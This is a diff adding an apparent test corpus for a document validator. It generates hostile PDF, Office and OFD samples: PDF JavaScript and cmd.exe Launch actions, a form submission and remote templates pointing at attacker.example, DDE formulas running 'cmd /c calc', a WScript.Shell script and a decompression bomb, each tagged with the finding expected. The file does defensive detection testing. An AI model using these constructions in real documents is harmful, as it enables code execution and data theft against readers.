@@ -1,0 +1,539 @@
+import { deflateSync } from 'node:zlib';
+import type { FileType } from '../../../shared/schemas/common.ts';
+import type { FindingCode } from '../../../shared/validation/inspect.ts';
+import {
+  activeX,
+  activeXByContentType,
+  complexField,
+  dataConnection,
+  definedNameFormula,
+  docxWithChart,
+  docxWithHyperlink,
+  documentWith,
+  embeddedOle,
+  embeddedPackage,
+  escapedTargetMode,
+  externalOle,
+  externalTemplate,
+  externalWorkbookLink,
+  linkedPicture,
+  macroByContentType,
+  macroByRelationship,
+  type OfficeKind,
+  ofdAction,
+  ofdAttachment,
+  ofdHiddenExecutable,
+  ofdWith,
+  sheetWithFormula,
+  utf16Relationships,
+  wordVbaData,
+} from '../../fixtures/active-office.ts';
+import {
+  bigImage,
+  buildClassicPdf,
+  buildPdf,
+  escapeNames,
+  incrementalUpdate,
+  type Packing,
+  pageObjects,
+  type PdfObj,
+} from '../../fixtures/active-pdf.ts';
+import { MiB, windowsExecutable } from '../../fixtures/files.ts';
+import type { CorpusItem } from './corpus-item.ts';
+
+/**
+ * The active-content part of the hostile corpus ("Trust II"): every class of active content in
+ * DOCX, XLSX and PPTX (a PPTX is refused anyway, as not a document we take, but its content is
+ * named too), in PDF wherever it can hide, and in OFD. Joined to CORPUS in ./corpus.ts; the
+ * look-alikes that must stay VALID are ACTIVE_GENUINE.
+ */
+
+// ── PDF ──────────────────────────────────────────────────────────────────────────────────
+
+interface PdfClass {
+  id: string;
+  expect: FindingCode;
+  catalog?: string;
+  page?: string;
+  /** Objects numbered from 6, after the page objects. */
+  extra?: (first: number) => PdfObj[];
+}
+
+const PDF_CLASSES: PdfClass[] = [
+  {
+    id: 'javascript',
+    expect: 'PDF_SCRIPT',
+    catalog: '/OpenAction 6 0 R',
+    extra: (n) => [{ num: n, body: "<< /S /JavaScript /JS (app.alert('x')) >>" }],
+  },
+  {
+    id: 'launch',
+    expect: 'PDF_SCRIPT',
+    catalog: '/OpenAction 6 0 R',
+    extra: (n) => [{ num: n, body: '<< /S /Launch /F (cmd.exe) >>' }],
+  },
+  {
+    id: 'embedded-file',
+    expect: 'PDF_ATTACHMENT',
+    catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>',
+    extra: (n) => [
+      { num: n, body: `<< /Type /Filespec /F (a.exe) /EF << /F ${n + 1} 0 R >> >>` },
+      { num: n + 1, body: '/Type /EmbeddedFile', stream: windowsExecutable(1024) },
+    ],
+  },
+  {
+    id: 'openaction-uri',
+    expect: 'PDF_ACTION',
+    catalog: '/OpenAction 6 0 R',
+    extra: (n) => [{ num: n, body: '<< /S /URI /URI (http://attacker.example/track) >>' }],
+  },
+  {
+    id: 'page-aa',
+    expect: 'PDF_ACTION',
+    page: '/AA << /O 6 0 R >>',
+    extra: (n) => [{ num: n, body: '<< /S /GoTo /D [3 0 R /Fit] >>' }],
+  },
+  {
+    id: 'xfa',
+    expect: 'PDF_SCRIPT',
+    catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>',
+    extra: (n) => [
+      { num: n, body: '[(template) 7 0 R]' },
+      { num: n + 1, body: '', stream: Buffer.from('<template><script>xfa.host.messageBox(1)</script></template>') },
+    ],
+  },
+  {
+    id: 'submit-form',
+    expect: 'PDF_ACTION',
+    catalog: '/AcroForm << /Fields [6 0 R] >>',
+    extra: (n) => [
+      { num: n, body: '<< /FT /Btn /T (send) /A << /S /SubmitForm /F (http://attacker.example/collect) >> >>' },
+    ],
+  },
+  {
+    id: 'import-data',
+    expect: 'PDF_ACTION',
+    catalog: '/AcroForm << /Fields [6 0 R] >>',
+    extra: (n) => [
+      { num: n, body: '<< /FT /Btn /T (load) /A << /S /ImportData /F (\\\\\\\\attacker.example\\\\x.fdf) >> >>' },
+    ],
+  },
+];
+
+type Placement = 'plain' | 'escaped' | 'incremental' | 'middle' | `objstm-${Exclude<Packing, 'none'>}`;
+const PLACEMENTS: Placement[] = [
+  'plain',
+  'escaped',
+  'incremental',
+  'middle',
+  'objstm-flate',
+  'objstm-ahx-flate',
+  'objstm-a85-flate',
+  'objstm-lzw',
+  'objstm-flate-png',
+  'objstm-runlength',
+];
+
+/** The class's PDF, its active objects placed as told. */
+export function activePdf(c: PdfClass, placement: Placement): Buffer {
+  const transform = placement === 'escaped' ? escapeNames : (s: string) => s;
+  const extras = (c.extra?.(6) ?? []).map((o) => ({ ...o, body: transform(o.body) }));
+  const pages = pageObjects(transform(c.catalog ?? ''), transform(c.page ?? ''));
+  if (placement === 'incremental') {
+    // The active entries arrive in an update: the original catalog and page are harmless.
+    const base = buildClassicPdf(pageObjects());
+    return incrementalUpdate(base, [...pages.filter((o) => o.num === 1 || o.num === 3), ...extras]);
+  }
+  if (placement === 'middle') {
+    return buildClassicPdf([...pages, bigImage(20, 1200 * 1024), ...extras, bigImage(21, 1200 * 1024)]);
+  }
+  if (placement.startsWith('objstm-')) {
+    const packing = placement.slice('objstm-'.length) as Packing;
+    const packable = [...pages, ...extras].filter((o) => !o.stream).map((o) => o.num);
+    return buildPdf([...pages, ...extras], { packed: packable, packing });
+  }
+  return buildPdf([...pages, ...extras]);
+}
+
+const pdfItems: CorpusItem[] = PDF_CLASSES.flatMap((c) =>
+  PLACEMENTS.map((placement) => ({
+    id: `pdf-active-${c.id}-${placement}`,
+    category: `PDF active content (${placement})`,
+    declared: 'pdf' as const,
+    bytes: async () => activePdf(c, placement),
+    expect: c.expect,
+  })),
+);
+
+/** PDFs whose structure cannot be read whole. */
+const unreadablePdfs: CorpusItem[] = [
+  {
+    id: 'pdf-objstm-image-filter',
+    category: 'PDF unreadable',
+    declared: 'pdf',
+    // An object stream under a filter that cannot hold objects: what it holds cannot be read.
+    bytes: async () =>
+      buildClassicPdf([
+        ...pageObjects(),
+        {
+          num: 6,
+          body: '/Type /ObjStm /N 1 /First 4 /Filter /DCTDecode',
+          stream: Buffer.from('7 0 << /S /JavaScript >>'),
+        },
+      ]),
+    expect: 'PDF_UNREADABLE',
+  },
+  {
+    id: 'pdf-objstm-bomb',
+    category: 'PDF unreadable',
+    declared: 'pdf',
+    bytes: async () =>
+      buildClassicPdf([
+        ...pageObjects(),
+        {
+          num: 6,
+          body: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
+          stream: deflateSync(Buffer.alloc(100 * MiB)),
+        },
+      ]),
+    expect: 'PDF_UNREADABLE',
+  },
+  {
+    id: 'pdf-object-hidden-in-stream-data',
+    category: 'PDF unreadable',
+    declared: 'pdf',
+    // A fake image whose data holds an object the cross-reference table points into.
+    bytes: async () => {
+      const hidden = '6 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n';
+      const file = buildClassicPdf([
+        ...pageObjects('/OpenAction 6 0 R'),
+        { num: 7, body: '/Type /XObject /Subtype /Image /Filter /DCTDecode', stream: Buffer.from(`AAAA${hidden}`) },
+      ]);
+      const at = file.indexOf(hidden);
+      const table = file.lastIndexOf('\nxref') + 1;
+      const text = file
+        .toString('latin1', table)
+        .replace(/(\n0 8\n(?:.*\n){6})0000000000 00000 f /, `$1${String(at).padStart(10, '0')} 00000 n `);
+      return Buffer.concat([file.subarray(0, table), Buffer.from(text, 'latin1')]);
+    },
+    expect: 'PDF_UNREADABLE',
+  },
+  {
+    id: 'pdf-xref-points-elsewhere',
+    category: 'PDF unreadable',
+    declared: 'pdf',
+    bytes: async () => {
+      const file = buildClassicPdf(pageObjects());
+      const text = file
+        .toString('latin1')
+        .replace(/\n(\d{10}) 00000 n \n/, (_, o: string) => `\n${String(Number(o) + 7).padStart(10, '0')} 00000 n \n`);
+      return Buffer.from(text, 'latin1');
+    },
+    expect: 'PDF_UNREADABLE',
+  },
+  {
+    id: 'pdf-wrong-stream-length',
+    category: 'PDF unreadable',
+    declared: 'pdf',
+    bytes: async () =>
+      Buffer.from(
+        buildClassicPdf(pageObjects())
+          .toString('latin1')
+          .replace(/\/Length (\d+)/, (_, n: string) => `/Length ${Number(n) - 3}`),
+        'latin1',
+      ),
+    expect: 'PDF_UNREADABLE',
+  },
+  {
+    id: 'pdf-no-xref',
+    category: 'PDF unreadable',
+    declared: 'pdf',
+    bytes: async () => Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n', 'latin1'),
+    expect: 'PDF_UNREADABLE',
+  },
+];
+
+// ── OOXML ────────────────────────────────────────────────────────────────────────────────
+
+const KINDS: OfficeKind[] = ['docx', 'xlsx', 'pptx'];
+/** A PPTX is declared as a DOCX: refused as not one, and its active content named too. */
+const declaredAs = (kind: OfficeKind): FileType => (kind === 'pptx' ? 'docx' : kind);
+
+const perKind = (
+  id: string,
+  category: string,
+  make: (kind: OfficeKind) => Promise<Buffer>,
+  expect: FindingCode,
+): CorpusItem[] =>
+  KINDS.map((kind) => ({ id: `${kind}-${id}`, category, declared: declaredAs(kind), bytes: () => make(kind), expect }));
+
+const officeItems: CorpusItem[] = [
+  {
+    id: 'docx-remote-template-http',
+    category: 'OOXML external',
+    declared: 'docx',
+    bytes: () => externalTemplate('http://attacker.example/t.dotm'),
+    expect: 'OOXML_EXTERNAL',
+  },
+  {
+    id: 'docx-remote-template-unc',
+    category: 'OOXML external',
+    declared: 'docx',
+    bytes: () => externalTemplate('\\\\attacker.example\\share\\t.dotm'),
+    expect: 'OOXML_EXTERNAL',
+  },
+  ...perKind('external-ole-follina', 'OOXML external', externalOle, 'OOXML_EXTERNAL'),
+  ...perKind('linked-picture-unc', 'OOXML external', linkedPicture, 'OOXML_EXTERNAL'),
+  ...perKind('embedded-ole', 'OOXML embedded object', embeddedOle, 'OOXML_EMBEDDED_OBJECT'),
+  ...perKind('embedded-package', 'OOXML embedded object', embeddedPackage, 'OOXML_EMBEDDED_OBJECT'),
+  ...perKind('activex', 'OOXML embedded object', activeX, 'OOXML_EMBEDDED_OBJECT'),
+  ...perKind('activex-by-content-type', 'OOXML embedded object', activeXByContentType, 'OOXML_EMBEDDED_OBJECT'),
+  ...perKind('vba-by-content-type', 'macros', (k) => macroByContentType(k), 'MACROS'),
+  ...perKind('vba-by-relationship', 'macros', macroByRelationship, 'MACROS'),
+  ...perKind('vba-content-type-past-1mib', 'macros', (k) => macroByContentType(k, 1536 * 1024), 'MACROS'),
+  ...perKind('content-types-oversized', 'OOXML unreadable', (k) => macroByContentType(k, 5 * MiB), 'OOXML_UNREADABLE'),
+  { id: 'docx-word-vba-data', category: 'macros', declared: 'docx', bytes: wordVbaData, expect: 'MACROS' },
+  {
+    id: 'docx-rels-utf16-template',
+    category: 'OOXML external',
+    declared: 'docx',
+    bytes: utf16Relationships,
+    expect: 'OOXML_EXTERNAL',
+  },
+  {
+    id: 'docx-escaped-target-mode',
+    category: 'OOXML external',
+    declared: 'docx',
+    bytes: escapedTargetMode,
+    expect: 'OOXML_EXTERNAL',
+  },
+  {
+    id: 'xlsx-external-workbook-link',
+    category: 'OOXML external',
+    declared: 'xlsx',
+    bytes: () => externalWorkbookLink(false),
+    expect: 'OOXML_EXTERNAL',
+  },
+  {
+    id: 'xlsx-dde-link',
+    category: 'OOXML external',
+    declared: 'xlsx',
+    bytes: () => externalWorkbookLink(true),
+    expect: 'OOXML_EXTERNAL',
+  },
+  {
+    id: 'xlsx-data-connection',
+    category: 'OOXML external',
+    declared: 'xlsx',
+    bytes: dataConnection,
+    expect: 'OOXML_EXTERNAL',
+  },
+  {
+    id: 'xlsx-dde-formula',
+    category: 'DDE',
+    declared: 'xlsx',
+    bytes: () => sheetWithFormula("cmd|' /c calc'!A0"),
+    expect: 'OOXML_DDE',
+  },
+  {
+    id: 'xlsx-dde-formula-escaped-pipe',
+    category: 'DDE',
+    declared: 'xlsx',
+    bytes: () => sheetWithFormula("cmd&#124;' /c calc'!A0"),
+    expect: 'OOXML_DDE',
+  },
+  {
+    id: 'xlsx-dde-formula-after-string',
+    category: 'DDE',
+    declared: 'xlsx',
+    bytes: () => sheetWithFormula("&quot;a|b&quot;&amp;msexcel|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A0"),
+    expect: 'OOXML_DDE',
+  },
+  {
+    id: 'xlsx-dde-defined-name',
+    category: 'DDE',
+    declared: 'xlsx',
+    bytes: () => definedNameFormula("cmd|'/c calc'!A0"),
+    expect: 'OOXML_DDE',
+  },
+  {
+    id: 'docx-ddeauto-fldsimple',
+    category: 'DDE',
+    declared: 'docx',
+    bytes: () =>
+      documentWith('<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot; "/>'),
+    expect: 'OOXML_DDE',
+  },
+  {
+    id: 'docx-ddeauto-instrtext',
+    category: 'DDE',
+    declared: 'docx',
+    bytes: () => documentWith(complexField(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')),
+    expect: 'OOXML_DDE',
+  },
+  {
+    id: 'docx-dde-split-runs',
+    category: 'DDE',
+    declared: 'docx',
+    bytes: () => documentWith(complexField(' DD', 'E', 'AUTO c:\\\\x.exe "a" ')),
+    expect: 'OOXML_DDE',
+  },
+  {
+    id: 'docx-dde-lowercase-entity',
+    category: 'DDE',
+    declared: 'docx',
+    bytes: () => documentWith(complexField(' &#100;deauto c:\\\\x.exe "a" ')),
+    expect: 'OOXML_DDE',
+  },
+  {
+    id: 'docx-dde-second-field',
+    category: 'DDE',
+    declared: 'docx',
+    bytes: () => documentWith(complexField(' IF 1 = 1 ') + complexField('DDE cmd "/c calc" ')),
+    expect: 'OOXML_DDE',
+  },
+  {
+    id: 'docx-includepicture-unc',
+    category: 'OOXML external',
+    declared: 'docx',
+    bytes: () => documentWith(complexField(' INCLUDEPICTURE "\\\\\\\\attacker.example\\\\x.png" \\d ')),
+    expect: 'OOXML_EXTERNAL',
+  },
+];
+
+// ── OFD ──────────────────────────────────────────────────────────────────────────────────
+
+const ofdItems: CorpusItem[] = [
+  {
+    id: 'ofd-attachment-pdf',
+    category: 'OFD attachment',
+    declared: 'ofd',
+    bytes: () => ofdAttachment('report.pdf', Buffer.from('%PDF-1.7\n')),
+    expect: 'OFD_ATTACHMENT',
+  },
+  {
+    id: 'ofd-attachment-exe',
+    category: 'OFD attachment',
+    declared: 'ofd',
+    bytes: () => ofdAttachment('setup.exe', windowsExecutable()),
+    expect: 'EMBEDDED_EXECUTABLE',
+  },
+  {
+    id: 'ofd-executable-as-image',
+    category: 'OFD executable',
+    declared: 'ofd',
+    bytes: ofdHiddenExecutable,
+    expect: 'EMBEDDED_EXECUTABLE',
+  },
+  {
+    id: 'ofd-script-file',
+    category: 'OFD executable',
+    declared: 'ofd',
+    bytes: () => ofdWith('', [{ name: 'Doc_0/Res/run.js', data: 'new ActiveXObject("WScript.Shell").Run("calc")' }]),
+    expect: 'EMBEDDED_EXECUTABLE',
+  },
+  {
+    id: 'ofd-open-uri',
+    category: 'OFD action',
+    declared: 'ofd',
+    bytes: () => ofdAction('DO', '<ofd:URI URI="http://attacker.example/track"/>'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-page-open-uri',
+    category: 'OFD action',
+    declared: 'ofd',
+    bytes: () => ofdAction('PO', '<ofd:URI URI="file://attacker.example/x"/>'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-sound',
+    category: 'OFD action',
+    declared: 'ofd',
+    bytes: () => ofdAction('CLICK', '<ofd:Sound ResourceID="9"/>'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-movie',
+    category: 'OFD action',
+    declared: 'ofd',
+    bytes: () => ofdAction('DO', '<ofd:Movie ResourceID="9" Operator="Play"/>'),
+    expect: 'OFD_ACTION',
+  },
+  {
+    id: 'ofd-goto-attachment',
+    category: 'OFD action',
+    declared: 'ofd',
+    bytes: () => ofdAction('CLICK', '<ofd:GotoA AttachID="20" NewWindow="true"/>'),
+    expect: 'OFD_ACTION',
+  },
+];
+
+export const ACTIVE_CORPUS: readonly CorpusItem[] = [...pdfItems, ...unreadablePdfs, ...officeItems, ...ofdItems];
+
+/** Look-alikes that must stay VALID (`warning`: the one warning they must carry). */
+export const ACTIVE_GENUINE: readonly {
+  id: string;
+  declared: FileType;
+  bytes: () => Promise<Buffer>;
+  warning?: string;
+}[] = [
+  {
+    id: 'pdf-text-mentions-javascript',
+    declared: 'pdf',
+    bytes: async () => buildPdf(pageObjects('', '', 'Disable /JavaScript and /Launch /OpenAction /AA in your reader')),
+  },
+  {
+    id: 'pdf-openaction-destination',
+    declared: 'pdf',
+    bytes: async () => buildPdf(pageObjects('/OpenAction [3 0 R /Fit]')),
+  },
+  {
+    id: 'pdf-openaction-goto-in-object-stream',
+    declared: 'pdf',
+    bytes: async () =>
+      buildPdf([...pageObjects('/OpenAction 6 0 R'), { num: 6, body: '<< /S /GoTo /D [3 0 R /XYZ null null 0] >>' }], {
+        packed: [1, 2, 3, 5, 6],
+        packing: 'flate',
+      }),
+  },
+  {
+    id: 'pdf-link-annotation-uri',
+    declared: 'pdf',
+    bytes: async () =>
+      buildClassicPdf([
+        ...pageObjects('', '/Annots [6 0 R]'),
+        {
+          num: 6,
+          body: '<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://www.miit.gov.cn/) >> >>',
+        },
+      ]),
+  },
+  {
+    id: 'pdf-incremental-update-benign',
+    declared: 'pdf',
+    bytes: async () =>
+      incrementalUpdate(buildClassicPdf(pageObjects()), [
+        { num: 2, body: '<< /Type /Pages /Kids [3 0 R] /Count 1 /Rotate 0 >>' },
+      ]),
+  },
+  { id: 'docx-hyperlink', declared: 'docx', bytes: docxWithHyperlink, warning: 'EXTERNAL_LINK' },
+  { id: 'docx-chart-data', declared: 'docx', bytes: docxWithChart },
+  {
+    id: 'docx-page-field',
+    declared: 'docx',
+    bytes: () => documentWith(complexField(' PAGE ') + complexField(' HYPERLINK "https://www.miit.gov.cn/LINK" ')),
+  },
+  { id: 'xlsx-pipe-in-string', declared: 'xlsx', bytes: () => sheetWithFormula('CONCATENATE(&quot;a|b&quot;,A2)') },
+  {
+    id: 'ofd-click-link',
+    declared: 'ofd',
+    bytes: () => ofdAction('CLICK', '<ofd:URI URI="https://www.miit.gov.cn/"/>'),
+    warning: 'EXTERNAL_LINK',
+  },
+  {
+    id: 'ofd-goto',
+    declared: 'ofd',
+    bytes: () => ofdAction('CLICK', '<ofd:Goto><ofd:Dest Type="XYZ" PageID="1"/></ofd:Goto>'),
+  },
+];
